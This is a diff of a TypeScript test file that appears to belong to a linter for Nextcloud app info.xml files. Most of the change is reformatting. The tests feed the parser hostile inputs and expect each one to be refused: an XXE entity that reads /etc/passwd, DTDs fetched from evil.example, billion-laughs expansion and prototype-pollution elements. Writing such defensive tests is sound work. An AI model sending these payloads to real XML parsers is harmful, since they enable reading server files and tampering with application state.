@@ -34,8 +34,18 @@ describe("info.xml: DOCTYPE and entities", () => {
   });
 
   it.each([
-    ["an external entity (XXE) reading /etc/passwd", '<!DOCTYPE info [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<info>', "<id>notes</id>", "<id>&xxe;</id>"],
-    ["an external DTD fetched over the network", '<!DOCTYPE info SYSTEM "https://evil.example/info.dtd">\n<info>', "", ""],
+    [
+      "an external entity (XXE) reading /etc/passwd",
+      '<!DOCTYPE info [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<info>',
+      "<id>notes</id>",
+      "<id>&xxe;</id>",
+    ],
+    [
+      "an external DTD fetched over the network",
+      '<!DOCTYPE info SYSTEM "https://evil.example/info.dtd">\n<info>',
+      "",
+      "",
+    ],
     ["a parameter entity", '<!DOCTYPE info [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>\n<info>', "", ""],
     [
       "entity expansion (billion laughs)",
@@ -63,23 +73,36 @@ describe("info.xml: size, attributes and encodings", () => {
   });
 
   it("refuses bytes that are not UTF-8: UTF-16 with a BOM (its own rule, issue 13), and ISO-8859-1", async () => {
-    expect(await errorIds(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(notes, "utf16le")]))).toEqual(["nextcloud/xml-utf16"]);
-    expect(await errorIds(Buffer.from(notesWith("<name>Notes</name>", "<name>Notés</name>"), "latin1"))).toEqual(["nextcloud/xml-syntax"]);
+    expect(await errorIds(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(notes, "utf16le")]))).toEqual([
+      "nextcloud/xml-utf16",
+    ]);
+    expect(await errorIds(Buffer.from(notesWith("<name>Notes</name>", "<name>Notés</name>"), "latin1"))).toEqual([
+      "nextcloud/xml-syntax",
+    ]);
   });
 
   it("refuses a declared encoding other than UTF-8, which libxml2 would follow and read other text", async () => {
-    const xml = notesWith(/^<\?xml[^>]*\?>/, '<?xml version="1.0" encoding="ISO-8859-1"?>').replace("<name>Notes</name>", "<name>Notés</name>");
+    const xml = notesWith(/^<\?xml[^>]*\?>/, '<?xml version="1.0" encoding="ISO-8859-1"?>').replace(
+      "<name>Notes</name>",
+      "<name>Notés</name>",
+    );
     expect(await errorIds(xml)).toEqual(["nextcloud/xml-encoding"]);
     expect(await errorIds(notesWith('encoding="utf-8"', 'encoding="UTF-8"'))).toEqual([]);
   });
 });
 
 describe("info.xml: parser traps", () => {
-  it.each(["__proto__", "constructor", "prototype"])("refuses an element named %s, and Object.prototype stays clean", async (name) => {
-    const xml = notesWith("<id>notes</id>", `<id>notes</id>\n<${name}><polluted>yes</polluted><isAdmin>true</isAdmin></${name}>`);
-    expect(await errorIds(xml)).toEqual(["nextcloud/xml-reserved-name"]);
-    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
-  });
+  it.each(["__proto__", "constructor", "prototype"])(
+    "refuses an element named %s, and Object.prototype stays clean",
+    async (name) => {
+      const xml = notesWith(
+        "<id>notes</id>",
+        `<id>notes</id>\n<${name}><polluted>yes</polluted><isAdmin>true</isAdmin></${name}>`,
+      );
+      expect(await errorIds(xml)).toEqual(["nextcloud/xml-reserved-name"]);
+      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+    },
+  );
 
   it("an attribute named __proto__ stays data: attributes are prefixed '@_', so nothing reaches a prototype", async () => {
     await checkInfoXml(notesWith("<author", '<author __proto__="polluted"'), FILE, NO_SCHEMA);
@@ -95,11 +118,23 @@ describe("info.xml: parser traps", () => {
   it("refuses an element info.xsd allows once written twice (fast-xml-parser would make it a list silently)", async () => {
     const xml = notesWith(/<version>([^<]*)<\/version>/, "<version>$1</version>\n<version>99.0.0</version>");
     const { diagnostics } = await checkInfoXml(xml, FILE, NO_SCHEMA);
-    expect(diagnostics).toEqual([expect.objectContaining({ ruleId: "nextcloud/duplicate-element", message: "<version> appears 2 times; info.xsd allows it once" })]);
+    expect(diagnostics).toEqual([
+      expect.objectContaining({
+        ruleId: "nextcloud/duplicate-element",
+        message: "<version> appears 2 times; info.xsd allows it once",
+      }),
+    ]);
   });
 
   it("keeps values as written: 1.10 stays '1.10', 1e3 stays '1e3', entities are not expanded twice", () => {
-    const info = parseInfoXml("<info><id>1e3</id><version>1.10</version><summary>&amp;lt;b&amp;gt;</summary><dependencies><nextcloud min-version=\"30\" max-version=\"31.0\"/></dependencies></info>");
-    expect(info).toMatchObject({ id: "1e3", version: "1.10", summaries: [{ text: "&lt;b&gt;" }], nextcloud: { min: "30", max: "31.0" } });
+    const info = parseInfoXml(
+      '<info><id>1e3</id><version>1.10</version><summary>&amp;lt;b&amp;gt;</summary><dependencies><nextcloud min-version="30" max-version="31.0"/></dependencies></info>',
+    );
+    expect(info).toMatchObject({
+      id: "1e3",
+      version: "1.10",
+      summaries: [{ text: "&lt;b&gt;" }],
+      nextcloud: { min: "30", max: "31.0" },
+    });
   });
 });
